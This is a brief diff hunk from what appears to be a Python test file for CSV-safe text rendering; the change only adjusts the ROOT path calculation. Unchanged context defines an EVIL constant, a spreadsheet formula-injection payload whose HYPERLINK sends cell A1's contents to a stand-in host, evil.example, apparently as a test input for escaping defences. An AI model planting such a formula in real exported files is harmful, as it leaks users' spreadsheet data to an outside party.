@@ -15,7 +15,7 @@ from lib.ingest.importer import ingest
 from lib.render.safe_text import csv_cell, csv_safe, csv_text
 from lib.store import Store
 
-ROOT = Path(__file__).resolve().parent.parent
+ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 
 
